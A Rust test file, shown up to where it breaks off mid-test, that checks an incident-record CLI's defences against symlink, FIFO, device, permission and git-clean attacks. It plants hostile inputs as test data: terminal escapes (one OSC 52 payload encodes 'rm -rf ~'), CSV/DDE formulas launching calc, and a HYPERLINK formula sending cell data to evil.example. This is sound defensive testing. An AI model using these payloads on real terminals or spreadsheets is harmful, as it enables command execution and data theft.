//! Hardening, round two (issue 16): one regression test (or more) per attack found — locks
//! that `git clean` cannot pull away, no file opened through a link, FIFOs and devices
//! refused at once, permissions followed, escapes made visible or escaped everywhere, CSV
//! formulas neutralised, `summary -o` refusing what it must not replace, honest reports,
//! ids that never wrap, one size limit, listing errors that fail, and offsets as `--tz`
//! values. Tests that need root say so on standard error and return when it is missing.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use crate::common;

const SHIPPED: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/incidents/2022-12-18-hk-zone-c.ron"
);
const HK_ID: &str = "2022-12-18-hk-zone-c";
const ID: &str = "2024-03-01-payments-db-failover";

/// An uninhabited user and group on Linux systems, for running the binary as someone else.
const NOBODY: u32 = 65534;

/// A temporary folder holding `incidents/`.
struct Sandbox {
    tmp: tempfile::TempDir,
}

impl Sandbox {
    fn new() -> Self {
        let tmp = tempfile::tempdir().unwrap();
        fs::create_dir(tmp.path().join("incidents")).unwrap();
        Sandbox { tmp }
    }

    /// A sandbox with one fresh record, started 2024-03-01 09:00 Europe/Berlin.
    fn with_record() -> Self {
        let sb = Sandbox::new();
        let out = sb.output(&[
            "new",
            "--title",
            "Payments DB failover",
            "--severity",
            "sev2",
            "--started",
            "2024-03-01 09:00",
            "--tz",
            "Europe/Berlin",
        ]);
        assert!(out.status.success(), "{}", stderr(&out));
        sb
    }

    /// A sandbox with a copy of the shipped Hong Kong record.
    fn with_hk() -> Self {
        let sb = Sandbox::new();
        fs::copy(SHIPPED, sb.file(HK_ID)).unwrap();
        sb
    }

    /// A sandbox with the shipped record changed by `edit`.
    fn with_hk_text(edit: impl FnOnce(&str) -> String) -> Self {
        let sb = Sandbox::new();
        let shipped = fs::read_to_string(SHIPPED).unwrap();
        let text = edit(&shipped);
        assert_ne!(text, shipped, "the edit changed nothing");
        fs::write(sb.file(HK_ID), text).unwrap();
        sb
    }

    fn root(&self) -> &Path {
        self.tmp.path()
    }

    fn dir(&self) -> PathBuf {
        self.root().join("incidents")
    }

    fn file(&self, id: &str) -> PathBuf {
        self.dir().join(format!("{id}.ron"))
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let (clock, now) = common::clock("2024-03-01T12:00:00+00:00");
        let mut c = common::incident_std();
        c.current_dir(self.root()).env(clock, now).args(args);
        c
    }

    fn output(&self, args: &[&str]) -> Output {
        let out = self.cmd(args).output().unwrap();
        assert!(
            !stderr(&out).contains("panicked"),
            "{args:?}: {}",
            stderr(&out)
        );
        out
    }

    /// Runs and fails the test if the command has not finished within `limit` (a FIFO that
    /// is opened for reading would make it wait forever).
    fn output_within(&self, args: &[&str], limit: Duration) -> Output {
        let mut child = self
            .cmd(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let start = Instant::now();
        loop {
            if child.try_wait().unwrap().is_some() {
                return child.wait_with_output().unwrap();
            }
            if start.elapsed() > limit {
                let _ = child.kill();
                let _ = child.wait();
                panic!("{args:?} did not finish within {limit:?}: it hangs");
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn load(path: &Path) -> incident::model::record::Incident {
    incident::files::load::load_file(path).unwrap().incident
}

/// True when this process runs as root (a file it creates is owned by uid 0).
fn is_root() -> bool {
    use std::os::unix::fs::MetadataExt;
    let f = tempfile::NamedTempFile::new().unwrap();
    f.as_file().metadata().unwrap().uid() == 0
}

/// Says on standard error that a test (or part of one) is skipped, and why.
fn skipped(what: &str) {
    eprintln!("skipped {what}: it needs root (CI runs the tests as root)");
}

fn mode_of(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    fs::metadata(path).unwrap().permissions().mode() & 0o7777
}

fn set_mode(path: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

fn gid_of(path: &Path) -> u32 {
    use std::os::unix::fs::MetadataExt;
    fs::metadata(path).unwrap().gid()
}

// ---------------------------------------------------------------------------------------------
// 1. Locks that `git clean -fdX` cannot pull away

/// 8 writers log while `git clean -fdX` runs in a loop in the repository, as someone
/// tidying their checkout would: every write that reported success is in the record, once.
#[test]
fn git_clean_while_eight_writers_log_loses_no_acknowledged_write() {
    if Command::new("git").arg("--version").output().is_err() {
        eprintln!("skipped: git is not installed");
        return;
    }
    let sb = Sandbox::with_record();
    let git = |args: &[&str]| {
        let out = Command::new("git")
            .current_dir(sb.root())
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
            .args(args)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {}", stderr(&out));
    };
    git(&["init", "-q"]);
    // What users of `incident` ignore: lock files of earlier versions and temporary files.
    fs::write(sb.root().join(".gitignore"), ".*.ron.lock\n.*.ron.*.tmp\n").unwrap();
    git(&["add", "."]);
    git(&["commit", "-q", "-m", "record"]);
    // A lock file as earlier versions left it: the first thing `git clean -X` deletes.
    fs::write(sb.dir().join(format!(".{ID}.ron.lock")), "").unwrap();

    const WRITERS: usize = 8;
    const EACH: usize = 15;
    let done = std::sync::atomic::AtomicBool::new(false);
    let (acknowledged, cleans) = std::thread::scope(|s| {
        let cleaner = s.spawn(|| {
            let mut runs = 0;
            while !done.load(std::sync::atomic::Ordering::Relaxed) {
                // git itself may fail when a temporary file it listed is renamed before it
                // gets to it ("Cannot lstat"); that run still deleted what it could.
                let out = Command::new("git")
                    .current_dir(sb.root())
                    .args(["clean", "-fdXq"])
                    .output()
                    .unwrap();
                if out.status.success() {
                    runs += 1;
                }
            }
            runs
        });
        let writers: Vec<_> = (0..WRITERS)
            .map(|w| {
                let sb = &sb;
                s.spawn(move || {
                    let mut ok = Vec::new();
                    for i in 0..EACH {
                        let text = format!("writer {w} event {i}");
                        let out = sb.output(&["log", ID, &text, "--at", "2024-03-01 10:00"]);
                        if out.status.success() {
                            ok.push(text);
                        } else {
                            eprintln!("not acknowledged: {}", stderr(&out));
                        }
                    }
                    ok
                })
            })
            .collect();
        let acknowledged: Vec<String> = writers
            .into_iter()
            .flat_map(|w| w.join().unwrap())
            .collect();
        done.store(true, std::sync::atomic::Ordering::Relaxed);
        (acknowledged, cleaner.join().unwrap())
    });
    assert!(cleans > 0, "git clean never ran");
    let inc = load(&sb.file(ID));
    let lost: Vec<&String> = acknowledged
        .iter()
        .filter(|t| inc.events.iter().filter(|e| e.text == **t).count() != 1)
        .collect();
    eprintln!(
        "{} of {} writes acknowledged, {} events in the record, git clean ran {cleans} times",
        acknowledged.len(),
        WRITERS * EACH,
        inc.events.len()
    );
    assert_eq!(lost, Vec::<&String>::new(), "acknowledged writes lost");
    // Nothing is in the record that was not acknowledged, and nothing is there twice.
    assert_eq!(inc.events.len(), acknowledged.len());
    // Every write is acknowledged: the lock is not something git can delete.
    assert_eq!(acknowledged.len(), WRITERS * EACH);
}

// ---------------------------------------------------------------------------------------------
// 2. Nothing opened through a link, nothing created outside the incidents folder

/// A lock-file link committed to a repository (as root, pointing anywhere) used to make the
/// first writer after a clone create an empty file where it pointed.
#[test]
fn a_committed_lock_file_link_makes_no_file_outside_the_folder() {
    let sb = Sandbox::with_record();
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("created-by-a-writer");
    let relative = sb.root().join("created-next-to-the-repository");
    for (name, to) in [
        (format!(".{ID}.ron.lock"), target.clone()),
        (".2024-03-01-new-one.ron.lock".to_string(), relative.clone()),
    ] {
        std::os::unix::fs::symlink(&to, sb.dir().join(name)).unwrap();
    }
    let out = sb.output(&["log", ID, "after the clone", "--at", "2024-03-01 10:00"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = sb.output(&[
        "new",
        "--title",
        "New one",
        "--severity",
        "sev3",
        "--started",
        "2024-03-01 09:00",
        "--tz",
        "UTC",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = sb.output(&["fmt"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!target.exists(), "a writer created {}", target.display());
    assert!(
        !relative.exists(),
        "a writer created {}",
        relative.display()
    );
    assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 0);
    // The links are left alone: still links, still dangling.
    let link = sb.dir().join(format!(".{ID}.ron.lock"));
    assert!(
        fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    // And the only files in the folder are the records and the two links.
    let mut names: Vec<String> = fs::read_dir(sb.dir())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            ".2024-03-01-new-one.ron.lock",
            ".2024-03-01-payments-db-failover.ron.lock",
            "2024-03-01-new-one.ron",
            "2024-03-01-payments-db-failover.ron",
        ]
    );
}

/// The incidents folder given through a link is written in the folder it leads to; a record
/// that is a link inside the folder is written through (the link stays a link).
#[test]
fn writers_through_links_stay_inside_the_real_folder() {
    let sb = Sandbox::with_record();
    let link = sb.root().join("linked-incidents");
    std::os::unix::fs::symlink(sb.dir(), &link).unwrap();
    let out = sb.output(&[
        "--dir",
        "linked-incidents",
        "log",
        ID,
        "through the linked folder",
        "--at",
        "2024-03-01 10:00",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    let inc = load(&sb.file(ID));
    assert_eq!(inc.events.last().unwrap().text, "through the linked folder");
}

// ---------------------------------------------------------------------------------------------
// 3. FIFOs and devices are refused at once

fn mkfifo(path: &Path) {
    let out = Command::new("mkfifo").arg(path).output().unwrap();
    assert!(out.status.success(), "mkfifo: {}", stderr(&out));
}

#[test]
fn fifos_named_like_records_are_reported_and_skipped_never_read() {
    let sb = Sandbox::with_hk();
    mkfifo(&sb.file("pipe"));
    // The lock file of earlier versions as a FIFO: writers no longer open it.
    mkfifo(&sb.dir().join(format!(".{HK_ID}.ron.lock")));
    let limit = Duration::from_secs(20);
    for args in [
        &["check"][..],
        &["list"],
        &["stats"],
        &["actions"],
        &["fmt"],
        &["fmt", "--check"],
        &["check", "incidents/pipe.ron"],
    ] {
        let out = sb.output_within(args, limit);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stdout(&out));
        let said = stdout(&out) + &stderr(&out);
        assert!(
            said.contains("pipe.ron: E005: error: is a named pipe (FIFO), not a regular file"),
            "{args:?}: {said}"
        );
    }
    // The good record is still listed and still written.
    let out = sb.output_within(&["list", "--format", "csv"], limit);
    assert!(stdout(&out).contains(HK_ID), "{}", stdout(&out));
    let out = sb.output_within(
        &[
            "log",
            "hk-zone-c",
            "beside a FIFO",
            "--at",
            "2022-12-18 23:30",
        ],
        limit,
    );
    assert!(out.status.success(), "{}", stderr(&out));
    // Named as a path, a writer refuses it too, at once.
    let out = sb.output_within(&["log", "incidents/pipe.ron", "into a pipe"], limit);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
}

#[test]
fn devices_and_links_to_them_are_refused_at_once() {
    let sb = Sandbox::with_hk();
    // A link to a device outside the folder: refused as a link out of the folder.
    std::os::unix::fs::symlink("/dev/zero", sb.file("zero-link")).unwrap();
    let limit = Duration::from_secs(20);
    let out = sb.output_within(&["check"], limit);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout(&out).contains("zero-link.ron: E005: error: is a link to /dev/zero, outside"),
        "{}",
        stdout(&out)
    );
    // A device node inside the folder needs root to make.
    let made = Command::new("mknod")
        .arg(sb.file("zero"))
        .args(["c", "1", "5"])
        .output()
        .is_ok_and(|o| o.status.success());
    if !made {
        skipped("the character-device case (mknod)");
        return;
    }
    // And a link inside the folder to that device.
    std::os::unix::fs::symlink(sb.file("zero"), sb.file("zero-inside")).unwrap();
    for args in [
        &["check"][..],
        &["list"],
        &["stats"],
        &["actions"],
        &["fmt"],
    ] {
        let out = sb.output_within(args, limit);
        assert_eq!(out.status.code(), Some(1), "{args:?}");
        let said = stdout(&out) + &stderr(&out);
        assert!(
            said.contains("zero.ron: E005: error: is a character device, not a regular file"),
            "{args:?}: {said}"
        );
        assert!(
            said.contains("zero-inside.ron: E005: error: is a character device"),
            "{args:?}: {said}"
        );
    }
    let out = sb.output_within(&["show", "incidents/zero.ron"], limit);
    assert_eq!(out.status.code(), Some(1));
}

// ---------------------------------------------------------------------------------------------
// 4. Permissions

#[test]
fn new_records_take_the_group_permissions_of_their_folder() {
    for (folder, record) in [
        (0o755, 0o644),
        (0o775, 0o664),
        (0o770, 0o660),
        (0o700, 0o600),
    ] {
        let sb = Sandbox::new();
        set_mode(&sb.dir(), folder);
        let out = sb.output(&[
            "new",
            "--title",
            "Shared",
            "--severity",
            "sev3",
            "--started",
            "2024-03-01 09:00",
            "--tz",
            "UTC",
        ]);
        assert!(out.status.success(), "{}", stderr(&out));
        let file = sb.file("2024-03-01-shared");
        assert_eq!(
            mode_of(&file),
            record,
            "folder {folder:o} gave a record {:o}",
            mode_of(&file)
        );
        // A write keeps the record's mode.
        let out = sb.output(&["log", "shared", "x", "--at", "2024-03-01 09:30"]);
        assert!(out.status.success(), "{}", stderr(&out));
        assert_eq!(mode_of(&file), record);
    }
}

#[test]
fn writes_keep_the_records_group_and_a_setgid_folder_gives_its_group() {
    if !is_root() {
        skipped("the group cases (files of another group)");
        return;
    }
    use std::os::unix::fs::{MetadataExt, chown};
    // A shared folder: setgid, owned by the team's group.
    let sb = Sandbox::new();
    chown(sb.dir(), None, Some(NOBODY)).unwrap();
    set_mode(&sb.dir(), 0o2775);
    let out = sb.output(&[
        "new",
        "--title",
        "Shared",
        "--severity",
        "sev3",
        "--started",
        "2024-03-01 09:00",
        "--tz",
        "UTC",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let file = sb.file("2024-03-01-shared");
    assert_eq!((gid_of(&file), mode_of(&file)), (NOBODY, 0o664));
    // A record of another owner and group in a plain folder keeps both through a write.
    let sb = Sandbox::with_record();
    let file = sb.file(ID);
    chown(&file, Some(NOBODY), Some(NOBODY)).unwrap();
    set_mode(&file, 0o664);
    let out = sb.output(&["log", ID, "by root", "--at", "2024-03-01 09:30"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let meta = fs::metadata(&file).unwrap();
    assert_eq!(
        (meta.uid(), meta.gid(), meta.mode() & 0o7777),
        (NOBODY, NOBODY, 0o664)
    );
    assert_eq!(load(&file).events.len(), 1);
}

/// Runs the binary as uid/gid 65534 (needs root to start it so).
fn as_nobody(sb: &Sandbox, args: &[&str]) -> Output {
    use std::os::unix::process::CommandExt;
    let out = sb.cmd(args).uid(NOBODY).gid(NOBODY).output().unwrap();
    assert!(!stderr(&out).contains("panicked"), "{}", stderr(&out));
    out
}

#[test]
fn a_record_someone_else_owns_is_not_replaced_through_a_writable_folder() {
    if !is_root() {
        skipped("the other-owner case (a record owned by another user)");
        return;
    }
    let sb = Sandbox::with_record();
    set_mode(sb.root(), 0o755);
    // Anyone may create files in the folder, but the record is root's, 0644.
    set_mode(&sb.dir(), 0o777);
    let file = sb.file(ID);
    let before = fs::read(&file).unwrap();
    for args in [
        &["log", ID, "not mine", "--at", "2024-03-01 10:00"][..],
        &["status", ID, "identified"],
        &["action", "add", ID, "Fix it", "--type", "prevent"],
        &[
            "impact",
            "add",
            ID,
            "--service",
            "API",
            "--from",
            "2024-03-01 09:00",
        ],
        &["resolve", ID, "--at", "2024-03-01 11:00"],
    ] {
        let out = as_nobody(&sb, args);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stdout(&out));
        let err = stderr(&out);
        assert!(
            err.contains(
                "is not writable by you (owner uid 0, group gid 0, mode 0644); nothing was changed"
            ),
            "{args:?}: {err}"
        );
        assert!(err.contains("hint: ask its owner (uid 0)"), "{err}");
        assert_eq!(
            fs::read(&file).unwrap(),
            before,
            "{args:?} changed the record"
        );
    }
    // `fmt` asks the same (the record is made non-canonical by hand first).
    fs::write(
        &file,
        String::from_utf8(before.clone())
            .unwrap()
            .replace("    ", "  "),
    )
    .unwrap();
    let out = as_nobody(&sb, &["fmt", ID]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("is not writable by you"),
        "{}",
        stderr(&out)
    );
    fs::write(&file, &before).unwrap();
    // Made writable for others, the same user may write it (the system decides).
    set_mode(&file, 0o666);
    let out = as_nobody(&sb, &["log", ID, "now allowed", "--at", "2024-03-01 10:00"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(load(&file).events.last().unwrap().text, "now allowed");
}

// ---------------------------------------------------------------------------------------------
// 5. Escapes everywhere

/// OSC 0 (set the window title) and OSC 52 (set the clipboard), in 7-bit and 8-bit forms,
/// and a right-to-left override: what a hostile record holds.
const OSC_TITLE: &str = "\u{1b}]0;pwned\u{7}";
const OSC_CLIPBOARD: &str = "\u{1b}]52;c;cm0gLXJmIH4K\u{7}";
const C1_OSC: &str = "\u{9d}0;pwned\u{9c}";
const RLO: &str = "\u{202e}";

/// Fails when `text` holds anything that drives a terminal or hides text: a control other
/// than newline and tab, or a bidirectional or zero-width format character.
fn assert_inert(what: &str, text: &str) {
    let bad: Vec<String> = text
        .chars()
        .filter(|&c| {
            (c.is_control() && c != '\n' && c != '\t')
                || incident::model::text::is_invisible_format(c)
        })
        .map(|c| format!("U+{:04X}", c as u32))
        .collect();
    assert!(bad.is_empty(), "{what} printed {bad:?}:\n{text}");
}

fn assert_inert_output(what: &str, out: &Output) {
    assert_inert(&format!("{what} (stdout)"), &stdout(out));
    assert_inert(&format!("{what} (stderr)"), &stderr(out));
}

/// A record's text written as a RON string: `\u{…}` escapes for everything but plain ASCII.
fn ron_string(s: &str) -> String {
    s.chars()
        .map(|c| {
            if c.is_ascii_graphic() || c == ' ' {
                c.to_string()
            } else {
                format!("\\u{{{:x}}}", c as u32)
            }
        })
        .collect()
}

#[test]
fn file_names_with_escapes_are_shown_visibly_in_every_message() {
    let sb = Sandbox::with_hk();
    let hostile = |tag: &str| format!("x{tag}{OSC_TITLE}{RLO}{C1_OSC}");
    // A broken record with a hostile name: every `file:line:column: CODE` line names it.
    fs::write(sb.dir().join(format!("{}.ron", hostile("1"))), "(").unwrap();
    fs::write(sb.dir().join(format!("{}.ron", hostile("2"))), "(").unwrap();
    let runs: [&[&str]; 6] = [
        &["check"],
        &["check", "--format", "json"],
        &["list"],
        &["show", "x"],
        &["fmt", "--check"],
        &["stats"],
    ];
    for args in runs {
        let out = sb.output(args);
        assert_inert_output(&format!("{args:?}"), &out);
    }
    let out = sb.output(&["check"]);
    assert!(
        stdout(&out).contains("x1␛]0;pwned␇\\u{202e}\\u{9d}0;pwned\\u{9c}.ron:1:1: E001: error:"),
        "{}",
        stdout(&out)
    );
    // "matches more than one incident" names both, visibly.
    let out = sb.output(&["show", "x"]);
    let err = stderr(&out);
    assert!(err.contains("matches more than one incident"), "{err}");
    assert!(err.contains("x1␛]0;pwned␇"), "{err}");
    // A record's path given with escapes, in errors of readers and writers.
    let name = format!("incidents/{}.ron", hostile("1"));
    for args in [&["show", &name][..], &["log", &name, "text"]] {
        let out = sb.output(args);
        assert_eq!(out.status.code(), Some(1));
        assert_inert_output(&format!("{args:?}"), &out);
    }
}

#[test]
fn writers_never_echo_escapes_from_the_record_or_the_command_line() {
    let sb = Sandbox::with_record();
    let service = format!("API{OSC_TITLE}{OSC_CLIPBOARD}{RLO}");
    let customer = format!("Acme{C1_OSC}");
    let mut runs: Vec<(Vec<String>, Option<i32>)> = Vec::new();
    let mut run = |args: Vec<String>, code: Option<i32>| {
        let strs: Vec<&str> = args.iter().map(String::as_str).collect();
        let out = sb.output(&strs);
        assert_eq!(out.status.code(), code, "{args:?}: {}", stderr(&out));
        assert_inert_output(&format!("{args:?}"), &out);
        runs.push((args, code));
        out
    };
    let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
    // Target names: the report echoes them.
    let out = run(
        s(&[
            "impact",
            "add",
            ID,
            "--service",
            &service,
            "--from",
            "2024-03-01 09:05",
        ]),
        Some(0),
    );
    assert!(
        stderr(&out).contains("API␛]0;pwned␇␛]52;c;cm0gLXJmIH4K␇\\u{202e}"),
        "{}",
        stderr(&out)
    );
    run(
        s(&[
            "impact",
            "add",
            ID,
            "--customer",
            &customer,
            "--from",
            "2024-03-01 09:05",
        ]),
        Some(0),
    );
    // The `known:` list of a name not found, and a name with no open window.
    let out = run(s(&["impact", "end", ID, "nobody"]), Some(1));
    assert!(
        stderr(&out).contains("hint: the incident's services and customers: API␛"),
        "{}",
        stderr(&out)
    );
    run(
        s(&["impact", "end", ID, &service, "--at", "2024-03-01 09:30"]),
        Some(0),
    );
    run(
        s(&["impact", "end", ID, &service, "--at", "2024-03-01 09:40"]),
        Some(1),
    );
    // The "still open" list after resolving.
    let out = run(s(&["resolve", ID, "--at", "2024-03-01 11:00"]), Some(0));
    assert!(
        stderr(&out).contains("still open: Acme\\u{9d}0;pwned\\u{9c}"),
        "{}",
        stderr(&out)
    );
    // Hostile action ids, record id and event ids, put in by hand.
    let file = sb.file(ID);
    let text = fs::read_to_string(&file).unwrap();
    let hostile_action = format!("A1{OSC_CLIPBOARD}");
    let text = text.replacen(
        "    actions: [],",
        &format!(
            "    actions: [\n        (\n            id: \"{}\",\n            text: \"x\",\n            type: Prevent,\n            owner: \"o\",\n            status: Open,\n        ),\n    ],",
            ron_string(&hostile_action)
        ),
        1,
    );
    let text = text.replacen(
        &format!("    id: \"{ID}\","),
        &format!("    id: \"{}\",", ron_string(&format!("{ID}{OSC_TITLE}"))),
        1,
    );
    assert!(text.contains("A1\\u{1b}]52"), "{text}");
    fs::write(&file, text).unwrap();
    // `action done X A9` lists the known ids; done with the hostile one echoes it.
    let out = run(s(&["action", "done", ID, "A9"]), Some(1));
    assert!(
        stderr(&out).contains("hint: the incident's action items: A1␛]52;c;cm0gLXJmIH4K␇"),
        "{}",
        stderr(&out)
    );
    run(s(&["action", "done", ID, &hostile_action]), Some(0));
    // Every writer's headline names the record id.
    run(
        s(&[
            "log",
            ID,
            &format!("text {OSC_TITLE}"),
            "--at",
            "2024-03-01 11:30",
        ]),
        Some(0),
    );
    // Refused (the review does not pass), then forced: both name the record, inertly.
    run(s(&["status", ID, "closed"]), Some(1));
    run(s(&["check", "--ready", ID]), Some(1));
    run(s(&["status", ID, "closed", "--force"]), Some(0));
    run(s(&["action", "add", ID, "y", "--type", "detect"]), Some(0));
    // A name typed on the command line that is not found.
    run(s(&["log", &format!("nope{OSC_TITLE}"), "x"]), Some(1));
    assert!(runs.len() >= 12);
}

/// Every JSON output escapes C1 controls, bidi and zero-width characters and U+2028/U+2029
/// as `\uXXXX`, and reads back to the same text.
#[test]
fn every_json_output_escapes_controls_bidi_and_invisible_characters() {
    let nasty = format!("{C1_OSC}{RLO}txt\u{2066}\u{200b}\u{feff}\u{2028}\u{2029}\u{200e}\u{7f}");
    let sb = Sandbox::with_hk_text(|t| {
        t.replacen(
            "title: \"Alibaba Cloud",
            &format!("title: \"{}Alibaba Cloud", ron_string(&nasty)),
            1,
        )
        .replacen(
            "name: \"OSS (Zone C)\"",
            &format!("name: \"OSS{}\"", ron_string(&nasty)),
            1,
        )
        .replacen(
            "Optimise the high-availability",
            &format!("{}Optimise the high-availability", ron_string(&nasty)),
            1,
        )
        .replacen(
            "Monitoring raised",
            &format!("{}Monitoring raised", ron_string(&nasty)),
            1,
        )
    });
    // A file name with the same characters, for `check --format json`.
    fs::write(sb.dir().join(format!("bad{nasty}.ron")), "(").unwrap();
    // The figures hold no record text, but are JSON too.
    let out = sb.output(&["impact", "hk-zone-c", "--format", "json", "--figures"]);
    assert_inert("impact --figures --format json", &stdout(&out));
    let runs: [&[&str]; 9] = [
        &["show", "hk-zone-c", "--format", "json"],
        &["list", "--format", "json"],
        &["summary", "hk-zone-c", "--format", "json"],
        &["timeline", "hk-zone-c", "--format", "json"],
        &["impact", "hk-zone-c", "--format", "json"],
        &["actions", "--format", "json"],
        &["stats", "--format", "json", "--by", "service"],
        &["check", "--format", "json"],
        &["check", "--format", "json", "incidents"],
    ];
    for args in runs {
        let out = sb.output(args);
        let text = stdout(&out);
        assert_inert(&format!("{args:?}"), &text);
        let value: serde_json::Value = serde_json::from_str(&text)
            .unwrap_or_else(|e| panic!("{args:?}: not JSON ({e}):\n{text}"));
        // The hostile text is in there, whole, once read back.
        let back = value.to_string();
        let wanted = serde_json::to_string(&nasty).unwrap();
        let wanted = wanted.trim_matches('"');
        assert!(
            back.contains(wanted),
            "{args:?}: the text did not read back"
        );
        for escape in [
            "\\u009d", "\\u202e", "\\u2066", "\\u200b", "\\ufeff", "\\u2028", "\\u2029",
        ] {
            assert!(text.contains(escape), "{args:?}: no {escape}");
        }
    }
    // And the terminal, Markdown and HTML views show them visibly.
    let runs: [&[&str]; 6] = [
        &["show", "hk-zone-c"],
        &["list"],
        &["summary", "hk-zone-c"],
        &["summary", "hk-zone-c", "--format", "html"],
        &["actions", "--format", "markdown"],
        &["impact", "hk-zone-c"],
    ];
    for args in runs {
        let out = sb.output(args);
        assert_inert_output(&format!("{args:?}"), &out);
        assert!(
            stdout(&out).contains("\\u{202e}"),
            "{args:?}: {}",
            stdout(&out)
        );
    }
}

// ---------------------------------------------------------------------------------------------
// 6. CSV formulas

/// The cells of CSV text (RFC 4180 quoting), row by row.
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![Vec::new()];
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',', false) => rows.last_mut().unwrap().push(std::mem::take(&mut cell)),
            ('\n', false) => {
                rows.last_mut().unwrap().push(std::mem::take(&mut cell));
                rows.push(Vec::new());
            }
            (c, _) => cell.push(c),
        }
    }
    rows.retain(|r| !r.is_empty());
    rows
}

#[test]
fn every_csv_output_neutralises_formulas() {
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let sb = Sandbox::with_hk_text(|t| {
        t.replacen(
            "name: \"OSS (Zone C)\"",
            &format!("name: \"{}\"", formula.replace('"', "\\\"")),
            1,
        )
        .replacen(
            "owner: \"Alibaba Cloud\"",
            "owner: \"@SUM(1+1)*cmd|' /C calc'!A0\"",
            1,
        )
        .replacen(
            "text: \"Optimise the high-availability",
            "text: \"+cmd|' /C calc'!A0 Optimise the high-availability",
            1,
        )
        .replacen(
            "title: \"Alibaba Cloud",
            "title: \"-2+3+cmd|' /C calc'!A0 Alibaba Cloud",
            1,
        )
        .replacen(
            "scope: \"Zone C block storage.\"",
            "scope: \"\\tZone C block storage.\"",
            1,
        )
    });
    let runs: [&[&str]; 6] = [
        &["list", "--format", "csv"],
        &["actions", "--format", "csv"],
        &["timeline", "hk-zone-c", "--format", "csv"],
        &["impact", "hk-zone-c", "--format", "csv"],
        &["impact", "hk-zone-c", "--format", "csv", "--windows"],
        &["impact", "hk-zone-c", "--format", "csv", "--figures"],
    ];
    let mut quoted = Vec::new();
    for args in runs {
        let out = sb.output(args);
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        for row in csv_cells(&stdout(&out)) {
            for cell in row {
                let plain_number = cell.parse::<f64>().is_ok() && !cell.contains(['e', 'E']);
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || plain_number,
                    "{args:?}: a cell a spreadsheet would run: {cell:?}"
                );
                if cell.starts_with('\'') {
                    quoted.push(cell);
                }
            }
        }
    }
    for wanted in [
        format!("'{formula}"),
        "'@SUM(1+1)*cmd|' /C calc'!A0".to_string(),
        "'+cmd|' /C calc'!A0 Optimise the high-availability design of multi-AZ products."
            .to_string(),
    ] {
        assert!(quoted.contains(&wanted), "{wanted:?} not in {quoted:#?}");
    }
    // The scope led by a tab is written trimmed, so no cell starts with it (checked above).
    assert!(
        quoted.iter().any(|c| c.starts_with("'-2+3+cmd")),
        "{quoted:#?}"
    );
    // Negative minutes stay numbers (the timeline's elapsed column before the start).
    let out = sb.output(&["timeline", "hk-zone-c", "--format", "csv"]);
    assert!(
        csv_cells(&stdout(&out))
            .iter()
            .flatten()
            .any(|c| c == "-21"),
        "{}",
        stdout(&out)
    );
}

// ---------------------------------------------------------------------------------------------
// 7. `summary -o`

#[test]
fn summary_output_refuses_links_devices_fifos_folders_and_record_paths() {
    let sb = Sandbox::with_hk();
    let pipe = sb.root().join("pipe.md");
    mkfifo(&pipe);
    let folder = sb.root().join("folder.md");
    fs::create_dir(&folder).unwrap();
    let elsewhere = sb.root().join("elsewhere.md");
    fs::write(&elsewhere, "keep me").unwrap();
    let link = sb.root().join("link.md");
    std::os::unix::fs::symlink(&elsewhere, &link).unwrap();
    let record = sb.file(HK_ID);
    let record_before = fs::read(&record).unwrap();
    let cases: [(&str, &str); 9] = [
        ("/dev/null", "is a character device, not a regular file"),
        ("/dev/full", "is a character device, not a regular file"),
        ("/dev/stdout", "is a symbolic link to /proc/self/fd/1"),
        ("pipe.md", "is a named pipe (FIFO), not a regular file"),
        ("folder.md", "is a folder, not a regular file"),
        ("link.md", "is a symbolic link to"),
        (
            "incidents/2022-12-18-hk-zone-c.ron",
            "is a record's path in the incidents folder",
        ),
        (
            "incidents/new-record.ron",
            "is a record's path in the incidents folder",
        ),
        (
            "./incidents/../incidents/x.ron",
            "is a record's path in the incidents folder",
        ),
    ];
    for (path, why) in cases {
        let out = sb.output_within(
            &["summary", "hk-zone-c", "-o", path],
            Duration::from_secs(20),
        );
